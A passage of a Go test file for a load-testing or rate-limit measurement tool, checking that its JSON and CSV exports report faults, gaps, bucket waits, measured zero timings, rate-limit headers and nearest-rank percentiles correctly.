		t.Errorf("faults\n got %v\nwant %v", doc.Faults, want)
	}
	if doc.OutageError != rec.OutageErr.Error() {
		t.Errorf("outage_error %q, want %q", doc.OutageError, rec.OutageErr)
	}
	if len(doc.Events) != len(handMade()) || !strings.Contains(buf.String(), "\n ],\n \"gaps\": [],\n \"events\": [\n  {") {
		t.Errorf("%d events, or the faults and gaps do not lead into them:\n%s", len(doc.Events), buf.String())
	}
	if keys, documented := jsonKeys[exportFault](), keyNames(FaultKeys); !reflect.DeepEqual(keys, documented) {
		t.Errorf("the JSON's faults have keys\n%q, FaultKeys documents\n%q", keys, documented)
	}
	if md := FaultsMarkdown(); strings.Count(md, "\n") != len(FaultKeys)+2 || !strings.Contains(md, "| `until_ms` | ") {
		t.Errorf("FaultsMarkdown:\n%s", md)
	}
	buf.Reset()
	if err := rec.CSV(&buf); err != nil {
		t.Fatal(err)
	}
	if rows, err := csv.NewReader(&buf).ReadAll(); err != nil || len(rows) != 1+len(handMade()) {
		t.Errorf("CSV: %d rows (%v), want the header and the events alone", len(rows), err)
	}
}

// The JSON says where the page did not see the run as it sees the rest
// (SetGaps: the tab hidden, the arrivals stream lost), so that sends the
// browser held back in a hidden tab are not read as the strategy's: a
// file of such a run read like any other.
func TestExportTellsThePagesGaps(t *testing.T) {
	rec := NewRecording(Default(), t0, false)
	rec.Append(handMade()...)
	read := func() []map[string]any {
		t.Helper()
		var buf bytes.Buffer
		if err := rec.JSON(&buf); err != nil {
			t.Fatal(err)
		}
		var doc struct {
			Gaps []map[string]any `json:"gaps"`
		}
		if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
			t.Fatal(err)
		}
		return doc.Gaps
	}
	if got := read(); got == nil || len(got) != 0 {
		t.Errorf("a run without gaps: %v, want []", got)
	}
	rec.SetGaps([]Gap{
		{Kind: "hidden", From: at(300), Until: at(2300)},
		{Kind: "stream_lost", From: at(900), Until: at(1400)},
		{Kind: "stream_lost", From: at(2500)}, // not over when written
	})
	want := []map[string]any{
		{"kind": "hidden", "from_ms": 300.0, "until_ms": 2300.0},
		{"kind": "stream_lost", "from_ms": 900.0, "until_ms": 1400.0},
		{"kind": "stream_lost", "from_ms": 2500.0},
	}
	if got := read(); !reflect.DeepEqual(got, want) {
		t.Errorf("gaps\n got %v\nwant %v", got, want)
	}
	if keys, documented := jsonKeys[exportGap](), keyNames(GapKeys); !reflect.DeepEqual(keys, documented) {
		t.Errorf("the JSON's gaps have keys\n%q, GapKeys documents\n%q", keys, documented)
	}
}

// A fleet-bucket wait that began after its attempt was meant to be sent
// (a job started late, a retry woken late) exports when it was meant, as
// an attempt does: a job's completion, which counts from when it was due,
// can be had from the file. The wait's intended_ms was left out, and a
// reader counted the job from the wait's t_ms, 40 ms short of the page.
func TestExportBucketWaitTellsWhenItWasMeant(t *testing.T) {
	late := wait(0, 0, 1, 40, 100*time.Millisecond, core.ReasonBucket)
	late.Event.Intended = at(0)
	recs := []Record{
		late, attempt(0, 0, 1, 140, 140), done(0, 0, 1, 190, nil),
		wait(1, 0, 1, 0, 50*time.Millisecond, core.ReasonBucket), attempt(1, 0, 1, 50, 50), done(1, 0, 1, 60, nil), // on time
	}
	rec := NewRecording(Default(), t0, false)
	rec.Append(recs...)
	var js, cs bytes.Buffer
	if err := rec.JSON(&js); err != nil {
		t.Fatal(err)
	}
	if err := rec.CSV(&cs); err != nil {
		t.Fatal(err)
	}
	doc, rows := readExports(t, &js, &cs)
	col := slices.IndexFunc(EventColumns, func(c EventColumn) bool { return c.Name == "intended_ms" })
	for i, want := range map[int]any{0: 0.0, 3: nil} {
		got, ok := doc.Events[i]["intended_ms"]
		if want == nil && ok || want != nil && got != want {
			t.Errorf("JSON: bucket wait %d: intended_ms %v (present %v), want %v", i, got, ok, want)
		}
		if cell, w := rows[1+i][col], map[bool]string{true: "", false: "0"}[want == nil]; cell != w {
			t.Errorf("CSV: bucket wait %d: intended_ms %q, want %q", i, cell, w)
		}
	}
	// The job's completion from the file: its first event's intended_ms
	// (else its t_ms) to its done's t_ms, as the page counts it.
	first, ok := doc.Events[0]["intended_ms"].(float64)
	if !ok {
		first = doc.Events[0]["t_ms"].(float64)
	}
	if got, want := doc.Events[2]["t_ms"].(float64)-first, ms(StatsOf(t0, recs).CompletionMax); got != want {
		t.Errorf("completion from the file %v ms, the page's %v ms", got, want)
	}
}

func TestRecordingIsSafeWhileRunning(t *testing.T) {
	rec := NewRecording(Default(), t0, false)
	var wg sync.WaitGroup
	for w := range 8 {
		wg.Go(func() {
			for i := range 200 {
				rec.Append(attempt(w, 0, 1, i, i))
			}
		})
	}
	wg.Go(func() {
		for range 50 {
			// Under -race: reading while the appends go on.
			_ = rec.Since(rec.Len())
			_ = rec.Stats()
		}
	})
	wg.Wait()
	if rec.Len() != 1600 || len(rec.Records()) != 1600 || len(rec.Since(1590)) != 10 || rec.Since(1600) != nil {
		t.Errorf("len %d", rec.Len())
	}
	if _, done := rec.End(); done {
		t.Error("finished before Finish")
	}
	rec.Finish(at(5))
	if end, done := rec.End(); !done || !end.Equal(at(5)) {
		t.Error("Finish")
	}
}

// StatsAcc, fed record by record and asked along the way, agrees with
// StatsOf and Dispersion over the same prefix.
func TestStatsAccMatchesStatsOf(t *testing.T) {
	s := Default()
	s.Workers, s.Jobs = 200, 3
	rec, _ := SimulateWith(s, SimOptions{})
	recs := rec.Records()
	if len(recs) < 1000 {
		t.Fatalf("only %d records", len(recs))
	}
	// Shuffle a little so the samples do not come sorted.
	for i := 0; i+7 < len(recs); i += 13 {
		recs[i], recs[i+7] = recs[i+7], recs[i]
	}
	a := NewStatsAcc(rec.Start, 0)
	for i := range recs {
		a.Add(&recs[i])
		if n := i + 1; n%997 == 0 || n == len(recs) {
			got, want := a.Stats(), StatsOf(rec.Start, recs[:n])
			if !reflect.DeepEqual(got, want) {
				t.Fatalf("after %d records:\n got %+v\nwant %+v", n, got, want)
			}
			if g, w := a.Dispersion(100*time.Millisecond), Dispersion(recs[:n], 100*time.Millisecond); g != w {
				t.Fatalf("after %d records: dispersion %v, want %v", n, g, w)
			}
		}
	}
}

// The percentiles are nearest-rank, everywhere (completion, lateness,
// queueing): of n values sorted, the ⌈p·n⌉-th, a value that occurred. The
// page's tooltips and the README say so.
func TestPercentilesAreNearestRank(t *testing.T) {
	ms := func(ns ...int) []time.Duration {
		ds := make([]time.Duration, len(ns))
		for i, n := range ns {
			ds[i] = time.Duration(n) * time.Millisecond
		}
		return ds
	}
	seq := func(n int) []int {
		xs := make([]int, n)
		for i := range xs {
			xs[i] = i + 1
		}
		return xs
	}
	for _, c := range []struct {
		name          string
		ds            []time.Duration
		p50, p99, max time.Duration
	}{
		{"one", ms(7), 7 * time.Millisecond, 7 * time.Millisecond, 7 * time.Millisecond},
		{"two", ms(1, 9), time.Millisecond, 9 * time.Millisecond, 9 * time.Millisecond}, // not 5 ms, interpolated
		{"1…50", ms(seq(50)...), 25 * time.Millisecond, 50 * time.Millisecond, 50 * time.Millisecond},
		{"1…100", ms(seq(100)...), 50 * time.Millisecond, 99 * time.Millisecond, 100 * time.Millisecond},
		{"1…101", ms(seq(101)...), 51 * time.Millisecond, 100 * time.Millisecond, 101 * time.Millisecond},
		{"none", nil, 0, 0, 0},
	} {
		p50, p99, mx := percentilesSorted(c.ds)
		if p50 != c.p50 || p99 != c.p99 || mx != c.max {
			t.Errorf("%s: p50 %v, p99 %v, max %v; want %v, %v, %v", c.name, p50, p99, mx, c.p50, c.p99, c.max)
		}
	}
}

// The rate-limit headers read back as they came, whatever their values
// hold: they were joined with "; ", which a RateLimit value holds itself
// ("RateLimit: \"bucket\";r=1;t=1; RateLimit-Policy: …"), so that no
// reader could tell where one ended.
func TestRateLimitHeadersReadBack(t *testing.T) {
	for _, c := range []struct {
		name string
		h    map[string]string
	}{
		{"none", nil},
		{"one", map[string]string{"X-RateLimit-Remaining": "0"}},
		{"structured fields", map[string]string{"RateLimit": `"bucket";r=1;t=1`, "RateLimit-Policy": `"bucket";q=4;w=1`, "X-RateLimit-Limit": "2"}},
		{"values holding the old separator and a colon", map[string]string{"RateLimit": `"a";r=0; "b";r=5`, "X-RateLimit-Reset": "Wed, 02 Dec 2026 10:00:00 GMT; X-RateLimit-Limit: 9"}},
	} {
		h := http.Header{}
		for k, v := range c.h {
			h.Set(k, v)
		}
		js, cs := exportOutcome(t, Attempt{Status: 429, Header: h})
		var doc struct {
			Events []struct {
				RateLimit map[string]string `json:"ratelimit"`
			} `json:"events"`
		}
		if err := json.Unmarshal(js.Bytes(), &doc); err != nil || len(doc.Events) != 1 {
			t.Fatalf("%s: %v", c.name, err)
		}
		if got := doc.Events[0].RateLimit; !reflect.DeepEqual(got, c.h) {
			t.Errorf("%s: the JSON's ratelimit reads back as %q, want %q", c.name, got, c.h)
		}
		rows, err := csv.NewReader(&cs).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%s: %v, %d rows", c.name, err, len(rows))
		}
		var got map[string]string
		if cell := rows[1][slices.IndexFunc(EventColumns, func(e EventColumn) bool { return e.Name == "ratelimit" })]; cell != "" {
			got = map[string]string{}
			for _, line := range strings.Split(cell, "\n") {
				name, v, _ := strings.Cut(line, ": ")
				got[name] = v
			}
		}
		if !reflect.DeepEqual(got, c.h) {
			t.Errorf("%s: the CSV's ratelimit reads back as %q, want %q", c.name, got, c.h)
		}
	}
}

// readExports reads a JSON export's events and a CSV export's rows.
func readExports(t *testing.T, js, cs *bytes.Buffer) (doc struct{ Events []map[string]any }, rows [][]string) {
	t.Helper()
	if err := json.Unmarshal(js.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(cs).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return doc, rows
}

// exportOutcome is the JSON and CSV exports of a run of one answered
// attempt, a.
func exportOutcome(t *testing.T, a Attempt) (js, cs bytes.Buffer) {
	t.Helper()
	rec := NewRecording(Default(), t0, false)
	rec.Append(outcome(0, 0, 1, 5, a))
	rec.Finish(at(5))
	if err := rec.JSON(&js); err != nil {
		t.Fatal(err)
	}
	if err := rec.CSV(&cs); err != nil {
		t.Fatal(err)
	}
	return js, cs
}

// A timing measured as 0 is exported as 0, and one not measured is left
// out: handoff_ms, queued_ms and pickup_ms of exactly 0 were left out, as
// if the browser had not told them (a request sent at once, an answer
// taken in at once).
func TestExportTellsMeasuredZeros(t *testing.T) {
	keys := []string{"handoff_ms", "queued_ms", "pickup_ms"}
	for _, c := range []struct {
		name string
		a    Attempt
		want map[string]any // of keys, those present
	}{
		{"all measured, all 0", Attempt{Status: 200, Measured: MeasuredHandoff | MeasuredQueued | MeasuredPickup}, map[string]any{"handoff_ms": 0.0, "queued_ms": 0.0, "pickup_ms": 0.0}},
		{"none measured", Attempt{Status: 200}, map[string]any{}},
		{"no Timing-Allow-Origin: no queueing told", Attempt{Status: 200, Handoff: 2 * time.Millisecond, Measured: MeasuredHandoff | MeasuredPickup}, map[string]any{"handoff_ms": 2.0, "pickup_ms": 0.0}},
	} {
		js, cs := exportOutcome(t, c.a)
		doc, rows := readExports(t, &js, &cs)
		for _, k := range keys {
			got, ok := doc.Events[0][k]
			want, wantOK := c.want[k]
			if ok != wantOK || got != want {
				t.Errorf("%s: JSON %s is %v (present %v), want %v (present %v)", c.name, k, got, ok, want, wantOK)
			}
			cell := rows[1][slices.Index(rows[0], k)]
			wantCell := ""
			if wantOK {
				wantCell = strconv.FormatFloat(want.(float64), 'f', -1, 64)
			}
			if cell != wantCell {
				t.Errorf("%s: CSV %s is %q, want %q", c.name, k, cell, wantCell)
			}
		}
	}
}

// jsonKeys are the JSON keys of T's fields, in their order.
func jsonKeys[T any]() []string {
	var keys []string
	typ := reflect.TypeFor[T]()
	for i := range typ.NumField() {
		keys = append(keys, strings.Split(typ.Field(i).Tag.Get("json"), ",")[0])
	}
	return keys
}

// keyNames are the names ks documents, in their order.
func keyNames(ks []JSONKey) []string {
	var names []string
	for _, k := range ks {
		names = append(names, k.Name)
	}
	return names
}

func TestSortDurationsMergesTheNewTail(t *testing.T) {
	ms := func(v ...int) []time.Duration {
		ds := make([]time.Duration, len(v))
		for i, x := range v {
			ds[i] = time.Duration(x) * time.Millisecond
		}
		return ds
	}
	tests := []struct {
		name string
		ds   []time.Duration
		done int
	}{
		{"empty", nil, 0},
		{"nothing sorted yet", ms(5, 1, 4, 1), 0},
		{"all sorted", ms(1, 2, 3), 3},
		{"tail after the head", ms(1, 2, 3, 9, 4), 3},
		{"tail before the head", ms(5, 6, 7, 3, 1, 2), 3},
		{"tail inside the head", ms(1, 4, 8, 9, 5, 2), 4},
		{"equal values", ms(2, 2, 3, 2, 3, 2), 3},
		{"one new", ms(1, 3, 5, 7, 4), 4},
		{"one old", ms(6, 9, 1, 7), 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			want := slices.Clone(tt.ds)
			slices.Sort(want)
			done := tt.done
			got := sortDurations(slices.Clone(tt.ds), &done)
			if !slices.Equal(got, want) || done != len(tt.ds) {
				t.Errorf("sortDurations(%v, %d) = %v, done %d; want %v, done %d", tt.ds, tt.done, got, done, want, len(tt.ds))
			}
		})
	}
}

// The exports write times to the microsecond: a live run's times in the
// page are 256 ns apart (the browser's clock, as float64 nanoseconds since
// 1970), and 2.3 ms came out as 2.299904 (found by a review).
func TestExportedMillisecondsToTheMicrosecond(t *testing.T) {
	for _, c := range []struct {
		d    time.Duration
		want float64
	}{
		{2299904, 2.3},
		{6270899968, 6270.9},
		{2300000, 2.3},
		{1499, 0.001},
		{1500, 0.002},
		{-2299904, -2.3},
		{0, 0},
	} {
		if got := ms(c.d); got != c.want {
			t.Errorf("ms(%d ns) = %v, want %v", int64(c.d), got, c.want)
		}
	}
}

// csvRows is rec's CSV export, read back by encoding/csv.
func csvRows(t *testing.T, rec *Recording) [][]string {
	t.Helper()
	var buf bytes.Buffer
	if err := rec.CSV(&buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}
